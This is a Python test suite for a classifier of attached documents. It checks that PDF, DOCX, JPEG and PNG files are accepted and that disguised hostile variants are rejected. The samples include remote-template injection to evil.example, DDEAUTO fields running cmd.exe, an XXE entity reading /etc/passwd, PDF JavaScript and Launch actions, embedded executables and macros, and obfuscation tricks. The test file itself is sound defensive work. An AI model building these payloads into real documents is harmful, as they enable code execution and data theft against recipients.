"""What a file is that came with a comment: its bytes say it; what runs or hides is not taken."""

import zlib
from collections.abc import Iterable, Sequence

import pytest

from attached_files import (
    WORDS_OF_FILE,
    a_jpeg,
    a_letter,
    a_png,
    a_scan,
    locked,
    with_parts,
)
from talqy.office.attached_end import behind_the_end
from talqy.office.attached_form import AttachedForm, NotTaken, attached_form
from talqy.office.attached_words import attached_words
from word_files import TRANSITIONAL, a_word, paragraph

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{where}" TargetMode="External"/></Relationships>'
)


def a_part(inside: str) -> bytes:
    return f'<w:x xmlns:w="{TRANSITIONAL}">{inside}</w:x>'.encode()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def relations(kind: str, where: str) -> dict[str, bytes]:
    return {"word/_rels/settings.xml.rels": RELATIONS.format(kind=kind, where=where).encode()}


def inner(kind: str, where: str) -> bytes:
    said = RELATIONS.format(kind=kind, where=where)
    return said.replace(' TargetMode="External"', "").encode()


def field(*codes: str) -> str:
    """Return a field whose code is cut in pieces; a piece that is mark-up is a field in it."""
    marks = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    cut = (
        one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>"
        for one in codes
    )
    return f"{marks('begin')}{''.join(cut)}{marks('separate')}{marks('end')}"


def a_packed_pdf(said: bytes) -> bytes:
    """Return a PDF one object of which is packed with a stream of objects."""
    packed = zlib.compress(b"5 0 " + said)
    head = f"4 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)}>>"
    stream = head.encode() + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return a_scan().replace(b"xref", stream + b"xref", 1)


TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
PICTURES = b'<Default Extension="png" ContentType="image/png"/>'
TEMPLATE = RELATIONS.format(kind="attachedTemplate", where="http://evil.example/x.dotm")
OF_SETTINGS = "word/_rels/settings.xml.rels"


def disguised(text: str, name: str = OF_SETTINGS) -> bytes:
    return with_parts(a_letter(), {name: text.encode()})


def with_file(name: str, data: bytes = b"MZ", kind: str = "") -> bytes:
    """Return a letter with a file in it, of a type that is told or of none."""
    told = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    types = TYPES.replace(b"</Types>", told) if kind else TYPES
    return with_parts(a_letter(), {"[Content_Types].xml": types, name: data})


DTD = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
IN_DISGUISE = {
    "a reference": disguised(TEMPLATE.replace('"http', '"&#104;ttp')),
    "a line": disguised(TEMPLATE.replace("Target=", "Target\n=\n")),
    "wide letters": with_parts(
        a_letter(),
        {OF_SETTINGS: f'<?xml version="1.0" encoding="UTF-16"?>{TEMPLATE}'.encode("utf-16")},
    ),
    "other letters": disguised(f'<?xml version="1.0" encoding="UTF-7"?>{TEMPLATE}'),
    "far behind": disguised(f"<!--{'x' * (1 << 20)}-->{TEMPLATE}"),
    "an ending in capitals": disguised(TEMPLATE, "word/_rels/settings.xml.RELS"),
    "a folder in capitals": disguised(TEMPLATE, "WORD/_RELS/settings.xml.rels"),
    "a share": disguised(TEMPLATE.replace("http:", "file:").replace("/", "\\")),
    "a share by slashes": disguised(TEMPLATE.replace("http:", "")),
    "said to be inside": disguised(TEMPLATE.replace(' TargetMode="External"', "")),
    "a template here": disguised(
        TEMPLATE.replace("http://evil.example/x.dotm", "file:///D:/N.dotm")
    ),
    "a picture elsewhere": disguised(TEMPLATE.replace("attachedTemplate", "image")),
    "a picture of a share, inside": with_parts(
        a_letter(), {OF_SETTINGS: inner("image", "\\\\evil.example\\x.png")}
    ),
    "a part in pieces": with_file("word/_rels/settings.xml.rels/[0].piece", b"x", "image/png"),
    "two of one name": disguised("<a/>", "word/DOCUMENT.xml"),
    "a file of no type": with_file("word/embeddings/o.BIN"),
    "an object": with_file("word/embeddings/o.ole", OLE, "image/png"),
    "a program": with_file("word/embeddings/x.exe", b"MZ", "application/x-msdownload"),
    "a workbook": with_file(
        "word/embeddings/a.xlsm", a_letter(), "application/vnd.ms-excel.sheet.macroEnabled.12"
    ),
    "macros of another name": with_file("word/x.bin", OLE, "application/vnd.ms-office.vbaProject"),
    "a page inside": with_file("word/c.html", b"<script>", "text/html"),
    "a definition": disguised(f"{DTD}<a/>", "word/a.xml"),
    "a definition, wide": with_parts(a_letter(), {"word/a.xml": f"{DTD}<a/>".encode("utf-16-be")}),
    "half a part": disguised("<a>", "word/a.xml"),
    "another document brought in": a_word('<w:altChunk r:id="r9"/>'),
    "a control": a_word('<w:p><w:r><w:control r:id="r9"/></w:r></w:p>'),
    "a film": a_word('<w:p><x:webVideoPr xmlns:x="x" embeddedHtml="&lt;script&gt;"/></w:p>'),
    "an older drawing": a_word(
        '<w:p><v:imagedata xmlns:o="urn:o" o:href="http://evil.example/x.png"/></w:p>'
    ),
    "a program as letters": with_file("word/setup.exe", b"MZ", "application/x-font"),
    "a program as letters, named so": with_file("word/fonts/a.ttf", b"MZ", "application/x-font"),
    "an old drawing": a_word('<w:p><v:imagedata src="http://evil.example/x.png"/></w:p>'),
    "DDE": a_word(paragraph(field('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
    "DDE in pieces": a_word(paragraph(field(" dde", "auto cmd.exe"))),
    "DDE by another field": a_word(paragraph(field(field("QUOTE 68 68 69"), " cmd.exe"))),
    "DDE that does not end": a_word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'
    ),
    "DDE in a part": with_parts(
        a_letter(), {"word/footnotes.xml": a_part('<w:fldSimple w:instr="DDE x"/>')}
    ),
    "a picture by a field": a_word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x \\d"/></w:p>'),
    "a code without a field": a_word("<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>"),
    "something before": b"PK\3\4" + a_letter(),
    "something behind": a_letter() + b"<script>",
}
ACTIONS = [
    "JavaScript",
    "#4aavaScrip#74",
    "Launch",
    "SubmitForm",
    "ImportData",
    "GoToR",
    "GoToE",
    "EmbeddedFile",
    "RichMedia",
    "Rendition",
    "XFA",
]
LEADING_OUT = [
    "/OpenAction <</S /URI /URI (http://evil.example/)>>",
    "/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next <</S /URI /URI (x)>>>>",
    "/A#41 <</O <</S /URI /URI (x)>>>>",
    "/Subtype /FileAttachment /FS <</Type /Filespec /EF <</F 5 0 R>>>>",
    "/FS 9 0 R",
    "/Length 0 /F (\\\\\\\\evil.example\\\\x)",
    "/S /Thread /F 9 0 R /D 0",
    "/Ref <</F <</FS /URL /F (http://evil.example/x.pdf)>>>>",
    "/T (endobj) /F (x)",
]
STAYING_IN = [
    "/OpenAction [3 0 R /XYZ null null 0]",
    "/OpenAction 4 0 R",
    "/OpenAction <</S /GoTo /D [3 0 R /Fit]>>",
    "/Subtype /Link /F 4 /A <</S /URI /URI (https://adilet.zan.kz/)>>",
    "/Font <</F 5 0 R /F2 6 0 R>>",
]
SOUND = {
    AttachedForm.PDF: a_scan(),
    AttachedForm.DOCX: a_letter(),
    AttachedForm.JPEG: a_jpeg(),
    AttachedForm.PNG: a_png(),
}
ODD = {
    "nothing": (b"", NotTaken.EMPTY),
    "text": ("просто текст".encode(), NotTaken.OTHER),
    "a program": (b"MZ\x90\0" + b"\0" * 100, NotTaken.OTHER),
    "a page": (b"<!DOCTYPE html><p>", NotTaken.PAGE),
    "a page behind a mark": (b"\xef\xbb\xbf\n <html><script>", NotTaken.PAGE),
    "a page behind other words": (b"GIF89a <script>alert(1)</script>", NotTaken.PAGE),
    "a drawing with a script": (b"<?xml version='1.0'?><svg><script/></svg>", NotTaken.PAGE),
    "a locked document": (OLE + "EncryptedPackage".encode("utf-16-le"), NotTaken.LOCKED),
    "an old document": (OLE + b"\0" * 600, NotTaken.OTHER),
    "a locked archive": (locked(a_letter()), NotTaken.LOCKED),
    "a locked PDF": (a_scan().replace(b"/Root", b"/Encrypt 9 0 R /Root"), NotTaken.LOCKED),
    "a locked PDF, hidden": (
        a_scan().replace(b"/Root", b"/#45ncr#79pt 9 0 R /Root"),
        NotTaken.LOCKED,
    ),
    "a PDF with a script": (
        a_scan().replace(b"/Catalog", b"/Catalog /OpenAction <</S /Java#53cript>>"),
        NotTaken.RUNS,
    ),
    "a PDF that starts a program": (
        a_scan().replace(b"/Catalog", b"/Catalog /OpenAction <</S /Launch>>"),
        NotTaken.RUNS,
    ),
    "half a PDF": (a_scan()[:-200], NotTaken.DAMAGED),
    "half a picture": (a_png()[:-12], NotTaken.DAMAGED),
    "half a photograph": (a_jpeg()[:-2], NotTaken.DAMAGED),
    "half a document": (a_letter()[:-30], NotTaken.DAMAGED),
    "macros": (with_parts(a_letter(), {"word/vbaProject.bin": b"x"}), NotTaken.RUNS),
    "macros by their type": (
        with_parts(
            a_letter(),
            {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"},
        ),
        NotTaken.RUNS,
    ),
    "controls": (with_parts(a_letter(), {"word/activeX/activeX1.xml": b"x"}), NotTaken.RUNS),
    "a program inside": (
        with_parts(a_letter(), {"word/embeddings/oleObject1.bin": OLE + b"x"}),
        NotTaken.RUNS,
    ),
    "a template elsewhere": (
        with_parts(a_letter(), relations("attachedTemplate", "https://evil.example/t.dotm")),
        NotTaken.RUNS,
    ),
    "a template of a neighbour": (
        with_parts(a_letter(), relations("attachedTemplate", "\\\\evil.example\\t.dotm")),
        NotTaken.RUNS,
    ),
}


@pytest.mark.parametrize("form", SOUND)
def test_four_forms_are_taken(form: AttachedForm) -> None:
    assert attached_form(SOUND[form]) is form


@pytest.mark.parametrize("name", ODD)
def test_what_runs_hides_or_is_another_thing_is_not_taken(name: str) -> None:
    data, why = ODD[name]
    assert attached_form(data) is why


@pytest.mark.parametrize("where", ["https://adilet.zan.kz/", "jl:31561100.0", "#there"])
def test_a_link_that_a_person_follows_is_no_harm(where: str) -> None:
    data = with_parts(a_letter(), relations("hyperlink", where))
    assert attached_form(data) is AttachedForm.DOCX


@pytest.mark.parametrize("name", IN_DISGUISE)
def test_no_disguise_helps(name: str) -> None:
    assert attached_form(IN_DISGUISE[name]) in {NotTaken.RUNS, NotTaken.DAMAGED}


@pytest.mark.parametrize("said", LEADING_OUT)
@pytest.mark.parametrize("is_packed", [True, False])
def test_nothing_of_a_pdf_leads_out_by_itself_or_lies_in_it(said: str, *, is_packed: bool) -> None:
    told = f"<<{said}>>".encode()
    data = (
        a_packed_pdf(told) if is_packed else a_scan().replace(b"/Catalog", b"/Catalog /X " + told)
    )
    assert attached_form(data) is NotTaken.RUNS


WHERE = "(\\\\\\\\evil.example\\\\x.pdf)"
BY_NUMBER = {
    "an address": ("<</OpenAction 21 0 R>>", "<</S 22 0 R /URI 23 0 R>>", "/URI", "(http://x/)"),
    "a thread": ("<</OpenAction 21 0 R>>", "<</S 22 0 R /F 23 0 R /D 24 0 R>>", "/Thread", WHERE),
    "by two numbers": ("<</S 21 0 R /URI 22 0 R>>", "22 0 R", "/URI", "(http://x/)"),
    "a stream elsewhere": ("<</Length 21 0 R /F 22 0 R>>", "0", WHERE),
    "a drawing elsewhere": ("<</Ref 21 0 R>>", "<</F 22 0 R /Page 23 0 R>>", WHERE, "0"),
    "words before other words": ("<</F 21 0 R>>", f"{WHERE} 1"),
    "an action before other words": ("<</OpenAction 21 0 R>>", "<</S /URI /URI (x)>> 1"),
}
"""Objects of a file, from the twentieth on."""
BY_NUMBER_TAKEN = {
    "a place": ("<</OpenAction 21 0 R>>", "[3 0 R /Fit]", "<</S 5 0 R>>"),
    "letters, and words elsewhere": ("<</F 5 0 R /F2 6 0 R>>", "<</Title 23 0 R>>", "/Name"),
    "a length": ("<</Length 21 0 R>>", "0", "/Name", "(words)"),
}


def with_objects(objects: Iterable[str]) -> bytes:
    """Return a PDF with further objects."""
    more = "".join(f"{at} 0 obj\n{said}\nendobj\n" for at, said in enumerate(objects, 20))
    return a_scan().replace(b"\nxref", f"\n{more}xref".encode())


@pytest.mark.parametrize("objects", BY_NUMBER.values(), ids=BY_NUMBER)
def test_a_number_hides_nothing_that_leads_out(objects: Sequence[str]) -> None:
    assert attached_form(with_objects(objects)) is NotTaken.RUNS
    if not any(" 1" in one[-3:] for one in objects):
        assert attached_form(a_packed_pdf(" ".join(objects).encode())) is NotTaken.RUNS


@pytest.mark.parametrize("objects", BY_NUMBER_TAKEN.values(), ids=BY_NUMBER_TAKEN)
def test_what_stands_by_number_elsewhere_is_taken(objects: Sequence[str]) -> None:
    assert attached_form(with_objects(objects)) is AttachedForm.PDF
    assert attached_form(a_packed_pdf(" ".join(objects).encode())) is AttachedForm.PDF


@pytest.mark.parametrize("said", STAYING_IN)
def test_marks_letters_and_links_of_a_pdf_are_taken(said: str) -> None:
    told = f"<<{said}>>".encode()
    assert attached_form(a_packed_pdf(told)) is AttachedForm.PDF
    data = a_scan().replace(b"/Catalog", b"/Catalog /X " + told)
    assert attached_form(data) is AttachedForm.PDF


@pytest.mark.parametrize("action", ACTIONS)
@pytest.mark.parametrize("is_packed", [True, False])
def test_no_action_of_a_pdf_is_taken_where_it_may_stand(action: str, *, is_packed: bool) -> None:
    said = f"<</S /{action} /F (x)>>".encode()
    data = (
        a_packed_pdf(said) if is_packed else a_scan().replace(b"/Catalog", b"/Catalog /A " + said)
    )
    assert attached_form(data) is NotTaken.RUNS


def test_a_pdf_whose_objects_are_packed_is_taken() -> None:
    assert attached_form(a_packed_pdf(b"<</S /GoTo /D [3 0 R /Fit]>>")) is AttachedForm.PDF


@pytest.mark.parametrize(
    "said",
    [
        "/Filter /ASCIIHexDecode",
        "/Filter [/FlateDecode /FlateDecode]",
        "/Filter /FlateDecode /DecodeParms <</Predictor 12>>",
        "/Filter 9 0 R",
        "/Filter /ASCIIHexDecode /Filter /FlateDecode",
        "/Filter /FlateDecode /F (elsewhere)",
        "/X (5 0 obj <<) /#46irst 4 /Filter /LZWDecode",
    ],
)
def test_a_pdf_that_cannot_be_looked_at_whole_is_not_taken(said: str) -> None:
    data = a_packed_pdf(b"<</S /GoTo>>").replace(b"/Filter /FlateDecode", said.encode())
    assert attached_form(data) is NotTaken.RUNS


@pytest.mark.parametrize(
    "code", ["PAGE", " TOC \\o 1-3 ", 'HYPERLINK "https://x.kz"', "= 1 + 2", "=SUM(ABOVE)"]
)
def test_fields_that_fetch_nothing_are_taken(code: str) -> None:
    quoted = code.replace('"', "&quot;")
    assert (
        attached_form(a_word(f'<w:p><w:fldSimple w:instr="{quoted}"/></w:p>')) is AttachedForm.DOCX
    )
    assert attached_form(a_word(paragraph(field(code[:2], code[2:])))) is AttachedForm.DOCX


def test_what_word_writes_of_itself_is_taken() -> None:
    data = with_parts(
        a_letter(),
        {
            "[Content_Types].xml": TYPES.replace(b"</Types>", PICTURES + b"</Types>"),
            "word/_rels/document.xml.rels": inner("image", "media/Image%201.PNG"),
            "word/media/image 1.png": a_png(),
        },
    )
    assert attached_form(data) is AttachedForm.DOCX


def test_an_archive_that_unfolds_to_much_is_not_taken() -> None:
    data = with_parts(a_letter(), {f"word/media/{at}.png": b"" for at in range(2_100)})
    assert attached_form(data) is NotTaken.DAMAGED


@pytest.mark.parametrize("form", [AttachedForm.PDF, AttachedForm.DOCX])
def test_the_words_of_a_document_are_found(form: AttachedForm) -> None:
    assert " ".join(attached_words(SOUND[form], form, 10_000).split()) == WORDS_OF_FILE
    assert len(attached_words(SOUND[form], form, 10)) == 11


def test_where_words_cannot_be_read_there_are_none() -> None:
    assert attached_words(b"%PDF-1.4 nothing %%EOF", AttachedForm.PDF, 100) == ""
    assert attached_words(b"PK\3\4", AttachedForm.DOCX, 100) == ""


SMALL_ONE = b"\xff\xd8\xff\xd9"
SCAN = b"\xff\xda\0\x04\xff\xd9\x01\xff\0\x02\xff\xd0\x03\xff\xff\xff\0"
PICTURE = b"\xff\xd8\xff\xe1\0\x0aExif" + SMALL_ONE + b"\xff" + SCAN * 2 + b"\xff\xd9"
"""As a camera makes it: a small one in its head, signs that fill up, marks within its points."""

WITH_END = {
    "a picture": (PICTURE, AttachedForm.JPEG),
    "outlines of one": (a_jpeg(), AttachedForm.JPEG),
    "a drawing": (a_png(9), AttachedForm.PNG),
    "a scan": (a_scan(), AttachedForm.PDF),
    "a scan that was added to": (
        a_scan() + b"9 0 obj\n<<>>\nendobj\nxref\n0 0\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n",
        AttachedForm.PDF,
    ),
}


@pytest.mark.parametrize("name", WITH_END)
def test_what_stands_behind_the_end_of_a_file_is_counted_and_taken(name: str) -> None:
    data, form = WITH_END[name]
    assert behind_the_end(data, form) == 0
    assert behind_the_end(data + b"\0\r\n" * 20, form) == 0
    hidden = b"PK\3\4 a film, or a program\n%%EOF"
    assert behind_the_end(data + hidden, form) == len(hidden)
    assert attached_form(data + hidden) is form


def test_a_picture_that_ends_at_once_has_all_else_behind_it() -> None:
    assert behind_the_end(SMALL_ONE + PICTURE, AttachedForm.JPEG) == len(PICTURE)


@pytest.mark.parametrize(
    "fill", [b"\xff", b"\xff\xda\0\2", b"\xff\xd8", b"%%EOF ", b"%%EOF1 ", b""]
)
def test_the_end_of_a_file_of_odd_marks_is_looked_for_once(fill: bytes) -> None:
    data = b"\xff\xd8" + fill * 300_000 + b"\0"
    for form in AttachedForm:
        assert 0 <= behind_the_end(data, form) <= len(data)
